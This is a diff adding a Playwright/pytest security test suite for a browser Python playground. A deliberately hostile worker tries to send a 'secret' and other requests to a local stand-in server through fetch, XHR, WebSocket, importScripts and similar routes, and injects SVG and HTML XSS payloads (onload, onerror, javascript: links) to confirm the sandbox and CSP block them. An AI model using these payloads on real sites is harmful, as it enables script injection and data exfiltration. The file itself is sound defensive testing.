@@ -1,0 +1,196 @@
+"What the browser keeps from a stranger's program, and from a worker that is the stranger's altogether."
+import http.server, os, threading
+from urllib.parse import urlencode
+import pytest
+from conftest import missing_live
+
+if missing_live() and not os.environ.get('NOTHING_LEFT_OUT'): pytest.skip(missing_live(), allow_module_level=True)
+
+# A worker in the place of ours: it tries every way out, says which led somewhere, and answers with pictures that bite.
+hostile = '''
+const away = %r, home = %r, out = []
+const ways = {
+  fetch: () => fetch(away + 'fetch', { mode: 'no-cors' }),
+  home: () => fetch(home + 'live/files.json', { mode: 'no-cors', credentials: 'include' }),
+  request: () => new Promise((done, lost) => { const r = new XMLHttpRequest(); r.open('POST', away + 'request'); r.onload = done; r.onerror = lost; r.send('secret') }),
+  import: () => import(away + 'import'),
+  scripts: () => WorkerGlobalScope.prototype.importScripts.call(self, away + 'scripts'),
+  socket: () => new Promise((done, lost) => { const s = new WebSocket(away.replace('http', 'ws') + 'socket'); s.onopen = done; s.onerror = lost }),
+  events: () => new Promise((done, lost) => { const s = new EventSource(away + 'events'); s.onopen = done; s.onerror = lost }),
+  worker: () => new Promise((done, lost) => {
+    const w = new Worker(URL.createObjectURL(new Blob([`fetch('${away}worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))`])))
+    w.onmessage = ({ data }) => data ? done() : lost(); w.onerror = lost }),
+  font: () => new FontFace('f', `url(${away}font)`).load(),
+  database: () => new Promise((done, lost) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = lost }),
+  caches: () => caches.open('x'),
+  files: () => navigator.storage.getDirectory(),
+}
+self.onmessage = async ({ ports: [wire] }) => {
+  for (const [name, way] of Object.entries(ways)) {
+    try { await Promise.race([way(), new Promise((_, lost) => setTimeout(lost, 1500))]); out.push(name) } catch {}
+  }
+  const bites = 'window.bitten = (window.bitten || 0) + 1'
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${bites}" style="position:fixed;inset:0">
+    <script>${bites}</script><image href="${away}image" xlink:href="${away}image" onerror="${bites}"/><a href="javascript:${bites}"><text>x</text></a>
+    <foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${away}img" onerror="${bites}"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}frame"/></foreignObject>
+    <style>@import url(${away}style)</style><use href="${away}use"/><g class="v0" onclick="${bites}"><text fill="url(${away}fill)">a</text><text>data</text><text>grad</text><animate attributeName="href" values="${away}"/></g></svg>`
+  const html = `<img src="${away}name" onerror="${bites}">`
+  wire.onmessage = ({ data: { id } }) => wire.postMessage({ id, result: { text: html, trouble: '', printed: html, notes: [html, ...out.map(way => 'OUT:' + way)], results: [html, 'b'], result: html, large: null,
+    graph: { key: html, svg, about: html, nodes: [{ name: html, op: html, prev: [] }], widths: {} },
+    numbers: { data: [html], local: [[]], forward: [html], steps: [{ node: 0, says: [html], grads: [[0, html]] }], check: [] },
+    leaves: [{ node: 0, place: 0, name: html, value: 1, min: 0, max: 2, step: 1 }] } })
+  wire.postMessage({ ready: true })
+}
+'''
+
+program = '''
+from pyodide.code import run_js
+import js, socket, urllib.request
+tries = """fetch('{away}fetch', {{ mode: 'no-cors' }}); import('{away}import').catch(() => {{}}); new WebSocket('{ws}socket')
+    self.postMessage({{ id: 1 }}); fetch('{home}live/files.json', {{ mode: 'no-cors' }})"""
+try: run_js(tries)
+except BaseException: pass
+try: urllib.request.urlopen('{away}urllib', timeout=1)
+except BaseException: pass
+a = 2.0
+b = a*a
+'''
+
+
+@pytest.fixture
+def elsewhere():
+    "Another site: its address, and what was asked of it."
+    asked = []
+    class Listens(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header('Access-Control-Allow-Origin', '*')
+            self.end_headers()
+        do_POST = do_OPTIONS = do_HEAD = do_GET
+        def log_message(self, *args): pass
+    server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Listens)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f'http://127.0.0.1:{server.server_port}/', asked
+    server.shutdown()
+    server.server_close()
+
+
+def in_the_page(page):
+    "What of it is in the page that a browser would run or load."
+    return page.locator('body :is(script:not([src], [type="application/json"]), #playground :is(image, img, iframe, foreignObject, style:not(.mg-explore > style), use, a, animate, [onerror], [onload], [onclick]))').evaluate_all(
+        'all => all.filter(e => e.closest("#playground")).map(e => e.outerHTML.slice(0, 100))')
+
+
+def test_a_hostile_worker_gets_nothing_out_and_nothing_in(browser, address, elsewhere):
+    away, asked = elsewhere
+    context = browser.new_context()
+    context.route('**/worker.js*', lambda route: route.fulfill(body=hostile % (away, address), content_type='text/javascript'))
+    page = context.new_page()
+    came = []
+    page.on('response', lambda response: came.append((response.frame == page.main_frame, response.url)))
+    page.goto(address + 'live/playground.html')
+    page.get_by_role('status').filter(has_text='<img').first.wait_for(timeout=30_000)
+    notes = page.locator('#playground .notes').inner_text()
+    assert 'OUT:' not in notes
+    assert page.locator('#playground svg g.v0 text').count() >= 2 # what draws is there
+    page.locator('#playground svg g.v0').click(force=True)
+    assert in_the_page(page) == []
+    assert page.evaluate('window.bitten') is None
+    assert asked == []
+    assert {url for main, url in came if not main and not url.startswith('blob:')} == {address + 'live/frame.html'}
+    context.close()
+
+
+def test_a_hostile_program_reaches_nothing(browser, address, elsewhere):
+    away, asked = elsewhere
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(address + 'live/playground.html#' + urlencode(dict(text=program.format(away=away, ws=away.replace('http', 'ws'), home=address))))
+    page.get_by_role('button', name='Run', exact=True).click()
+    page.get_by_role('img', name='b: data 4.0000').wait_for(timeout=30_000)
+    page.get_by_role('textbox', name='Your program').fill('a = 3.0\nb = a*a') # and Python is still there
+    page.get_by_role('img', name='b: data 9.0000').wait_for()
+    assert asked == []
+    context.close()
+
+
+@pytest.mark.parametrize('name', ['playground', 'training'])
+def test_markup_that_comes_into_the_page_runs_nothing(visit, name, elsewhere):
+    away, asked = elsewhere
+    page = visit(f'live/{name}.html')
+    blocked = page.evaluate('''away => new Promise(done => {
+        const blocked = new Set()
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => { if (blocked.add(effectiveDirective).size === 6) done([...blocked]) })
+        setTimeout(() => done([...blocked]), 4000)
+        document.body.insertAdjacentHTML('beforeend', `<img src="${away}img" onerror="bitten = 1"><iframe src="${away}frame"></iframe><link rel="stylesheet" href="${away}style">`)
+        document.body.append(Object.assign(document.createElement('script'), { textContent: 'bitten = 2' }))
+        fetch(away).catch(() => {})
+    })''', away)
+    assert sorted(blocked) == ['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']
+    assert page.evaluate('window.bitten') is None and asked == []
+
+
+def test_a_strangers_program_waits_for_a_click(browser, address):
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(address + 'live/playground.html#' + urlencode(dict(text='print("it ran")\na = 5.0\nb = a*a')))
+    page.get_by_role('progressbar').wait_for(state='hidden', timeout=30_000)
+    came = page.get_by_text('This program came with the link')
+    came.wait_for()
+    text = page.get_by_role('textbox', name='Your program')
+    text.press('End')
+    text.press_sequentially(' # typed') # to type into it is not yet to run it
+    page.wait_for_timeout(600)
+    page.reload()
+    came.wait_for()
+    page.get_by_role('progressbar').wait_for(state='hidden', timeout=30_000)
+    assert not page.get_by_text('it ran', exact=True).is_visible()
+    page.get_by_role('button', name='Run', exact=True).click()
+    page.get_by_text('it ran', exact=True).wait_for()
+    assert not came.is_visible()
+    text.press('End')
+    text.press_sequentially(' again') # from here on it is the reader's own
+    page.get_by_text('it ran', exact=True).wait_for()
+    page.wait_for_url('**again**')
+    page.reload()
+    page.get_by_text('it ran', exact=True).wait_for(timeout=30_000)
+    assert not came.is_visible()
+    context.close()
+
+
+def test_a_stopped_python_is_back_at_once_without_a_network(visit):
+    "A second one waits from the moment that a program takes long."
+    page = visit('live/playground.html')
+    page.evaluate('''async () => {
+        const { Python } = await import('./python.js')
+        window.python = new Python(() => {})
+        await python.ready }''')
+    page.context.set_offline(True)
+    told = page.evaluate('''async () => {
+        const told = []
+        for (const round of [1, 2]) {
+            python.prepare()
+            while (!python.spare.ready) await new Promise(requestAnimationFrame)
+            python.onstatus = ({ state }) => told.push(state)
+            const loop = python.call('playground', 'run', { text: 'print(1)\\nwhile True: pass' }, 1e6).catch(error => told.push(error.message, error.printed))
+            while (![...python.asked.values()].some(({ printed }) => printed === '1\\n')) await new Promise(requestAnimationFrame)
+            python.restart('Stopped.')
+            await loop
+            told.push(await python.call('playground', 'short', { name: 'there' }, 1e6))
+        }
+        return told }''')
+    assert told == 2*['loading', 'loading', 'ready', 'Stopped.', '1\n', 'there'], told
+    page.context.set_offline(False)
+
+
+def test_memory_has_an_end_and_a_sentence(browser, address):
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(address + 'live/playground.html')
+    page.get_by_role('progressbar').wait_for(state='hidden', timeout=30_000)
+    page.get_by_role('textbox', name='Your program').fill('l = []\nwhile True: l.append(bytes(10**7))')
+    page.get_by_role('alert').filter(has_text='this needs more memory than a page has').wait_for(timeout=20_000)
+    page.get_by_role('textbox', name='Your program').fill('a = 3.0\nb = a*a')
+    page.get_by_role('img', name='b: data 9.0000').wait_for()
+    context.close()
